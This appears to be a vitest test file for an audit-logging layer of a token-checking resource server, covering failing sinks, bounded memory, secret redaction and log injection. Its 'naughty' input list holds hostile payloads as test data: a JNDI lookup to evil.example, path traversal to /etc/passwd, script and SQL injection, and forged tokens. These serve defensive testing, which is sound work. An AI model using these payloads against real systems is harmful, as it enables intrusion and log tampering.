import {
  type AuditEvent,
  type AuditSink,
  createResourceServer,
  type ResourceServerOptions,
  type Warning,
} from '@behalf/core'
import { expect, onTestFinished } from 'vitest'
import { createGate } from './endpoint.js'
import { fault } from './faults.js'
import { heapAfter } from './memory.js'
import { audience, createClock, eventually, goodClaims, issuer, present, settle, times, verdict } from './scene.js'
import { createKey, type JsonObject, signToken } from './signing.js'

const key = createKey('key-1')

/** A resource server with static keys: the only thing that can go wrong is its audit. */
const createAudited = (audit: ResourceServerOptions['audit'], options: Partial<ResourceServerOptions> = {}) => {
  const clock = createClock()
  const warnings: Warning[] = []
  const server = createResourceServer({
    issuer: { issuer, jwks: { keys: [key.jwk] } },
    audience,
    now: clock.now,
    onWarning: (warning) => {
      warnings.push(warning)
    },
    ...options,
    ...(audit === undefined ? {} : { audit }),
  })
  onTestFinished(() => server.close())
  const token = (claims: JsonObject = {}): string => signToken(key, goodClaims(clock, claims))
  const decide = (presented = token()) => present(server, presented)
  const ask = async (presented = token()): Promise<string> => verdict(await decide(presented))
  return { server, clock, warnings, token, decide, ask }
}

/** A sink that keeps what it is given. */
const createMemory = () => {
  const events: AuditEvent[] = []
  const steps: string[] = []
  const sink: AuditSink = {
    record: (event) => {
      events.push(event)
      steps.push('record')
    },
    flush: () => {
      steps.push('flush')
    },
    close: () => {
      steps.push('close')
    },
  }
  return { events, steps, sink }
}

const decisions = (events: readonly AuditEvent[]) => events.filter((event) => event.type === 'access.decision')
const dropped = (events: readonly AuditEvent[]): number =>
  events.reduce((sum, event) => sum + (event.type === 'audit.dropped' ? event.dropped : 0), 0)

const never = (): Promise<void> => new Promise(() => {})
const failing: Record<string, () => void | Promise<void>> = {
  throws: () => {
    throw new Error('disk full')
  },
  'rejects with nothing': () => Promise.reject(),
  rejects: () => Promise.reject(new Error('disk full')),
  'rejects later': async () => {
    await new Promise((resolve) => setTimeout(resolve, 1))
    throw new Error('disk full')
  },
}

for (const [name, record] of Object.entries(failing)) {
  for (const shape of ['callback', 'sink', 'settings'] as const) {
    fault('audit.throws', `a ${shape} that ${name} changes no verdict and is told to the operator`, async () => {
      const rejections: unknown[] = []
      const onRejection = (reason: unknown): void => {
        rejections.push(reason)
      }
      process.on('unhandledRejection', onRejection)
      onTestFinished(() => {
        process.off('unhandledRejection', onRejection)
      })
      const audit = { callback: record, sink: { record }, settings: { sink: { record } } }[shape]
      const { server, ask, warnings, clock, token } = createAudited(audit)
      expect(await ask()).toBe('allowed')
      expect(await ask('garbage')).toBe('token_malformed')
      expect(await ask(token({ exp: clock.now() - 60 }))).toBe('token_expired')
      await eventually(() => expect(warnings.some(({ code }) => code === 'audit_failed')).toBe(true))
      await server.close()
      await settle()
      expect(rejections).toEqual([])
    })
  }
}

fault('audit.throws', 'a sink that fails once gets the next event, and the lost one is counted', async () => {
  const { events, sink } = createMemory()
  let calls = 0
  const { server, ask } = createAudited({
    ...sink,
    record: (event) => {
      calls += 1
      if (calls === 2) throw new Error('disk full')
      return sink.record(event)
    },
  })
  for (let turn = 0; turn < 5; turn += 1) {
    expect(await ask()).toBe('allowed')
    await settle()
  }
  await server.close()
  expect(decisions(events)).toHaveLength(4)
  expect(dropped(events)).toBe(1)
})

fault(
  'audit.throws',
  'a sink that is down for a while: what it lost is counted to the last event, also when the count was lost',
  async () => {
    const { events, sink } = createMemory()
    let down = false
    const { server, ask } = createAudited({
      ...sink,
      record: (event) => {
        if (down) throw new Error('disk full')
        return sink.record(event)
      },
    })
    for (let turn = 0; turn < 30; turn += 1) {
      down = turn >= 10 && turn < 20
      expect(await ask()).toBe('allowed')
      await settle()
    }
    await server.close()
    expect(decisions(events)).toHaveLength(20)
    expect(dropped(events)).toBe(10)
  },
)

fault('audit.throws', 'an onWarning that throws changes no verdict', async () => {
  const { server, ask } = createAudited(
    () => {
      throw new Error('disk full')
    },
    {
      onWarning: () => {
        throw new Error('and the pager too')
      },
    },
  )
  expect(await ask()).toBe('allowed')
  expect(await ask('garbage')).toBe('token_malformed')
  await settle()
  await server.close()
})

fault('audit.late', 'the decision is there before the sink is called', async () => {
  const order: string[] = []
  const { server, decide } = createAudited(() => {
    order.push('record')
  })
  await decide().then(() => order.push('decision'))
  await server.close()
  expect(order).toEqual(['decision', 'record'])
})

fault('audit.late', 'a sink that hangs delays nothing, allow and deny alike', async () => {
  const { ask } = createAudited(never)
  for (let turn = 0; turn < 50; turn += 1) {
    expect(await ask()).toBe('allowed')
    expect(await ask('garbage')).toBe('token_malformed')
  }
})

fault('audit.late', 'a sink that blocks does so after the decision was handed over', async () => {
  let decided = 0
  const seen: number[] = []
  const { server, decide } = createAudited(() => {
    seen.push(decided)
    const until = process.hrtime.bigint() + 2_000_000n
    while (process.hrtime.bigint() < until) {}
  })
  await Promise.all(times(10, () => decide().then(() => (decided += 1))))
  await server.close()
  expect(seen).toHaveLength(10)
  expect(seen[0]).toBeGreaterThan(0)
})

fault('audit.late', 'a sink sees events in the order of the decisions', async () => {
  const { events, sink } = createMemory()
  const { server, ask, token } = createAudited({
    ...sink,
    record: async (event) => {
      await settle(1)
      await sink.record(event)
    },
  })
  for (let turn = 0; turn < 20; turn += 1) await ask(token({ sub: `user_${turn}` }))
  await server.close()
  expect(decisions(events).map((event) => event.subject?.id)).toEqual(times(20, (turn) => `user_${turn}`))
})

fault('audit.late', 'what a sink does to an event reaches no decision', async () => {
  const { server, decide } = createAudited((event) => {
    for (const member of Object.keys(event)) Reflect.deleteProperty(event, member)
  })
  const first = await decide()
  await settle()
  const second = await decide()
  expect(first).toMatchObject({ allowed: true, principal: { subject: 'user_1', actor: { subject: 'agent:support' } } })
  expect(second).toMatchObject({ allowed: true, principal: { subject: 'user_1', actor: { subject: 'agent:support' } } })
  await server.close()
})

fault(
  'audit.bounded',
  'behind a dead sink memory is bounded, and once it lives every event is there or counted',
  async () => {
    const { events, sink } = createMemory()
    const gate = createGate()
    const total = 25_000
    const { server, ask, token, warnings } = createAudited({
      ...sink,
      record: async (event) => {
        await gate.opened
        await sink.record(event)
      },
    })
    const presented = token({ filler: 'x'.repeat(4000) })
    const grown = await heapAfter(async () => {
      for (let turn = 0; turn < total; turn += 1) await ask(presented)
    })
    expect(grown).toBeLessThan(15_000_000)
    expect(warnings.filter(({ code }) => code === 'audit_dropped').length).toBeGreaterThan(0)
    gate.open()
    await ask(presented)
    await server.close()
    expect(dropped(events)).toBeGreaterThan(0)
    expect(decisions(events).length).toBeGreaterThanOrEqual(100)
    expect(decisions(events).length + dropped(events)).toBe(total + 1)
  },
)

fault('audit.bounded', 'the count of the lost comes as one event, with no request needed after it', async () => {
  const { events, sink } = createMemory()
  const gate = createGate()
  const { server, ask } = createAudited({
    ...sink,
    record: async (event) => {
      await gate.opened
      await sink.record(event)
    },
  })
  for (let turn = 0; turn < 15_000; turn += 1) await ask('garbage')
  gate.open()
  await server.close()
  const notices = events.filter((event) => event.type === 'audit.dropped')
  expect(notices).toHaveLength(1)
  expect(notices[0]).toMatchObject({ schema: 'delegation-audit/1', resource: { aud: audience } })
  expect(decisions(events).length + dropped(events)).toBe(15_000)
})

for (const [name, record] of Object.entries(failing)) {
  fault('audit.required', `a sink that ${name} refuses with 503, allow and deny alike`, async () => {
    const { decide } = createAudited({ sink: { record }, required: true, timeout: 1000 })
    for (const decision of [await decide(), await decide('garbage')]) {
      expect(decision).toMatchObject({ allowed: false, status: 503, error: { code: 'audit_unavailable' } })
      expect(decision.headers['Retry-After']).toMatch(/^[1-9][0-9]*$/)
      expect(decision.headers).not.toHaveProperty('WWW-Authenticate')
      expect(JSON.stringify(decision)).not.toContain('disk full')
    }
  })
}

fault('audit.required', 'a sink that hangs refuses with 503 once its time is up', async () => {
  const { ask } = createAudited({ sink: { record: never }, required: true, timeout: 30 })
  expect(await ask()).toBe('audit_unavailable')
  expect(new Set(await Promise.all(times(100, () => ask())))).toEqual(new Set(['audit_unavailable']))
})

fault('audit.required', 'a good sink has the event before the decision is there', async () => {
  const order: string[] = []
  const { decide } = createAudited({
    sink: {
      record: async () => {
        await settle(2)
        order.push('recorded')
      },
    },
    required: true,
  })
  for (const [token, code] of [
    [undefined, 'allowed'],
    ['garbage', 'token_malformed'],
  ] as const) {
    const decision = decide(token)
    decision.then(() => order.push('decision')).catch(() => {})
    expect(verdict(await decision)).toBe(code)
  }
  expect(order).toEqual(['recorded', 'decision', 'recorded', 'decision'])
})

fault('audit.required', 'a sink that comes back serves again', async () => {
  let down = true
  const { ask } = createAudited({
    sink: {
      record: () => {
        if (down) throw new Error('disk full')
      },
    },
    required: true,
  })
  expect(await ask()).toBe('audit_unavailable')
  down = false
  expect(await ask()).toBe('allowed')
})

fault('audit.required', 'a sink that answers after its time changes nothing, also when it rejects', async () => {
  const { ask, server } = createAudited({
    sink: {
      record: async () => {
        await new Promise((resolve) => setTimeout(resolve, 60))
        throw new Error('disk full')
      },
    },
    required: true,
    timeout: 10,
  })
  expect(await ask()).toBe('audit_unavailable')
  await new Promise((resolve) => setTimeout(resolve, 120))
  await server.close()
})

fault('audit.close', 'what is queued is delivered, then the sink is flushed, then closed, once', async () => {
  const { events, steps, sink } = createMemory()
  const { server, ask } = createAudited(sink)
  await Promise.all(times(20, () => ask()))
  await Promise.all([server.close(), server.close()])
  await server.close()
  expect(events).toHaveLength(20)
  expect(steps.slice(-2)).toEqual(['flush', 'close'])
  expect(steps.filter((step) => step === 'flush' || step === 'close')).toHaveLength(2)
})

fault('audit.close', 'a required sink is flushed and closed too', async () => {
  const { steps, sink } = createMemory()
  const { server, ask } = createAudited({ sink, required: true })
  await ask()
  await server.close()
  expect(steps).toEqual(['record', 'flush', 'close'])
})

const deadSinks: Record<string, AuditSink> = {
  'hangs in record': { record: never },
  'hangs in flush': { record: () => {}, flush: never },
  'hangs in close': { record: () => {}, close: never },
  'throws in flush': {
    record: () => {},
    flush: () => {
      throw new Error('disk full')
    },
  },
  'rejects in close': { record: () => {}, close: () => Promise.reject(new Error('disk full')) },
}

for (const [name, sink] of Object.entries(deadSinks)) {
  fault('audit.close', `a sink that ${name} does not keep close() from resolving`, async () => {
    const { server, ask } = createAudited(sink)
    expect(await ask()).toBe('allowed')
    await server.close()
  })
}

fault('audit.secrets', 'no event, warning, header or body holds any part of a token', async () => {
  const { events, sink } = createMemory()
  const { server, decide, clock, token, warnings } = createAudited({ ...sink, record: sink.record })
  const stranger = createKey('stranger')
  const presented = [
    token(),
    token({ exp: clock.now() - 60 }),
    token({ aud: 'https://orders.example.com' }),
    token({ iss: 'https://evil.example' }),
    token({ scope: undefined }),
    token({ act: { sub: 7 } }),
    token({ cnf: { jkt: 'thumbprint' } }),
    signToken(stranger, goodClaims(clock)),
    signToken({ ...stranger, kid: key.kid }, goodClaims(clock)),
    `${token()}x`,
    'a-secret-api-key-that-is-no-token',
  ]
  const texts: string[] = []
  for (const each of presented) {
    const decision = await decide(each)
    texts.push(JSON.stringify(decision))
    if (!decision.allowed) texts.push(decision.body, String(decision.error.stack), JSON.stringify(decision.headers))
  }
  const failed = createAudited(() => {
    throw new Error('disk full')
  })
  for (const each of presented) await failed.decide(each)
  await failed.server.close()
  await server.close()
  expect(decisions(events)).toHaveLength(presented.length)
  const written = [
    ...texts,
    ...events.map((event) => JSON.stringify(event)),
    ...[...warnings, ...failed.warnings].map((warning) => JSON.stringify(warning)),
  ].join('\n')
  for (const each of presented) {
    const [header = each, claims = each, signature = each] = each.split('.')
    expect(written).not.toContain(each)
    expect(written).not.toContain(signature)
    expect(written).not.toContain(claims)
    if (each.includes('.')) expect(written).not.toContain(header)
  }
})

fault('audit.secrets', 'a token whose signature was not proven leaves only its digest', async () => {
  const { events, sink } = createMemory()
  const { server, ask, clock } = createAudited(sink)
  const forged = signToken({ ...createKey('x'), kid: key.kid }, goodClaims(clock, { sub: 'victim', txn: 'task_1' }))
  expect(await ask(forged)).toBe('signature_invalid')
  await server.close()
  const [event] = decisions(events)
  expect(Object.keys(event?.token ?? {})).toEqual(['sha256'])
  expect(event?.token?.sha256).toMatch(/^[A-Za-z0-9_-]{22}$/)
  expect(JSON.stringify(event)).not.toContain('victim')
  expect(JSON.stringify(event)).not.toContain('task_1')
  expect(JSON.stringify(event)).not.toContain('agent:support')
})

const naughty = [
  '\u0000\u0001\u001f\u007f',
  'one\ntwo\r\nthree\u2028four\u2029five\u0085six',
  '\u001b[31mred\u001b[0m \u009b31m',
  '"}{"decision":"allow"}\n{"schema":"delegation-audit/1"',
  '\u202egnp.exe \u200b\ufeff\u2066',
  '\ud800 alone, and \udfff',
  '<script>alert(1)</script>',
  "'; DROP TABLE audit; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on what reads the log
  '${jndi:ldap://evil.example/a} %s%s%n {{7*7}}',
  '../../../../etc/passwd',
  '__proto__',
  '田中さんにあげて下さい 👨‍👩‍👧‍👦 ﷽',
  'ㅤ',
  'x'.repeat(10_000),
  '👨‍👩‍👧‍👦'.repeat(300),
  '\u0001'.repeat(2000),
]

fault('audit.injection', 'every event is one printable line of at most 4 kB', async () => {
  const { events, sink } = createMemory()
  const { server, decide, token } = createAudited(sink)
  const presented = naughty.flatMap((text) => [
    token({ sub: text, sub_profile: text }),
    token({ jti: text, client_id: text, txn: text }),
    token({ scope: text }),
    token({ act: { sub: text, iss: text, sub_profile: text, act: { sub: text, iss: text } } }),
    token({ sub: text, jti: text, client_id: text, txn: text, scope: text, act: { sub: text, iss: text } }),
    signToken({ ...key, kid: text }, goodClaims(createClock(), {})),
    text,
  ])
  presented.push(token({ scope: times(1500, (index) => `scope:${index}`).join(' ') }))
  for (const each of presented) {
    const decision = await server.authorize(
      {
        method: 'GET',
        url: `/invoices/${encodeURIComponent('x'.repeat(5000))}`,
        route: `/invoices/:id${'x'.repeat(3000)}`,
        headers: {
          get: (name) =>
            name.toLowerCase() === 'authorization' ? `Bearer ${each}` : name === 'traceparent' ? '00-\n-\n-01' : null,
        },
      },
      { scope: 'billing:read' },
    )
    expect(verdict(decision)).not.toBe('internal_error')
  }
  await decide()
  await server.close()
  expect(decisions(events)).toHaveLength(presented.length + 1)
  for (const event of events) {
    const line = JSON.stringify(event)
    expect(JSON.parse(line)).toEqual(event)
    expect(Buffer.byteLength(line)).toBeLessThanOrEqual(4096)
    expect(line).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]|\\u00[01]/u)
  }
})

fault('audit.complete', 'one event per decision, allow, deny and error, each with its own id and code', async () => {
  const { events, sink } = createMemory()
  const { server, clock, token } = createAudited(sink)
  const asked: [string, string, Parameters<typeof present>[2]?][] = [
    [token(), 'allowed'],
    [token(), 'allowed', { scope: 'billing:read' }],
    [token(), 'scope_insufficient', { scope: 'billing:write' }],
    [token({ exp: clock.now() - 60 }), 'token_expired'],
    ['garbage', 'token_malformed'],
    [
      token(),
      'internal_error',
      {
        check: () => {
          throw new Error('a bug')
        },
      },
    ],
  ]
  for (const [presented, code, requirement] of asked) {
    expect(verdict(await present(server, presented, requirement))).toBe(code)
  }
  await server.close()
  expect(decisions(events).map((event) => event.reason.code)).toEqual(asked.map(([, code]) => code))
  expect(decisions(events).map((event) => event.decision)).toEqual(['allow', 'allow', 'deny', 'deny', 'deny', 'error'])
  expect(new Set(events.map((event) => event.id)).size).toBe(asked.length)
})
